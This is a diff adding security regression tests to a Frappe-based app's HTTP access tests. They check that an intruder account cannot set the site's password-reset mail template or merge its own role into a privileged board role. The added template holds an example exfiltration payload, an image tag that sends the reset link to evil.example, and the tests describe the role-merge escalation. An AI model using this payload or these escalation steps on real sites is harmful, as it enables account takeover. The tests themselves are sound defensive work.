@@ -333,6 +333,57 @@ class TestAccessGrantsOverHttp(MeldcodeTestCase):
 		):
 			status, answer = self.call(INTRUDER, "frappe.client.insert", "post", doc=doc)
 			self.assertEqual(status, 403, answer)
+		# Round 29: the reset mail's template sent the key to the System Manager's own server, and
+		# a role of their own merged into Meldcode Board gave them the board's role without a grant.
+		template = {"doctype": "Email Template", "name": "Template van de indringer", "subject": "Herstel"}
+		template["response"] = '<img src="https://evil.example/p.gif?k={{ link | urlencode }}">'
+		self.assertEqual(self.call(INTRUDER, "frappe.client.insert", "post", doc=template)[0], 200)
+
+		def clean_up():  # also after a failure: the site's reset mail must never keep this template
+			frappe.db.set_single_value("System Settings", "reset_password_template", None)
+			frappe.db.delete("Email Template", {"name": template["name"]})
+			frappe.db.commit()
+
+		self.addCleanup(clean_up)
+		status, answer = self.call(
+			INTRUDER,
+			"frappe.client.set_value",
+			"post",
+			doctype="System Settings",
+			name="System Settings",
+			fieldname="reset_password_template",
+			value="Template van de indringer",
+		)
+		self.assertEqual(status, 403, answer)
+		date_format = frappe.db.get_single_value("System Settings", "date_format")
+		status, answer = self.call(  # the positive control: another setting of the same form
+			INTRUDER,
+			"frappe.client.set_value",
+			"post",
+			doctype="System Settings",
+			name="System Settings",
+			fieldname="date_format",
+			value=date_format,
+		)
+		self.assertEqual(status, 200, answer)
+		own_role = {"doctype": "Role", "role_name": "Meldcode Test Eigen Rol", "desk_access": 1}
+		self.assertEqual(self.call(INTRUDER, "frappe.client.insert", "post", doc=own_role)[0], 200)
+		self.addCleanup(
+			lambda: (
+				frappe.db.delete("Role", {"name": ("like", "Meldcode Test Eigen Rol%")}),
+				frappe.db.commit(),
+			)
+		)
+		rename = {"doctype": "Role", "old_name": "Meldcode Test Eigen Rol", "merge": 1}
+		status, answer = self.call(
+			INTRUDER, "frappe.client.rename_doc", "post", new_name="Meldcode Board", **rename
+		)
+		self.assertEqual(status, 403, answer)
+		rename["merge"] = 0
+		status, answer = self.call(
+			INTRUDER, "frappe.client.rename_doc", "post", new_name="Meldcode Test Eigen Rol 2", **rename
+		)
+		self.assertEqual(status, 200, f"the positive control: a role of one's own is renamed: {answer}")
 		# Round 23: Frappe lists background jobs with their arguments (a comment's text on a dossier).
 		for doctype, expected in (("RQ Job", 403), ("Note", 200)):  # Note: the positive control
 			status, answer = self.call(
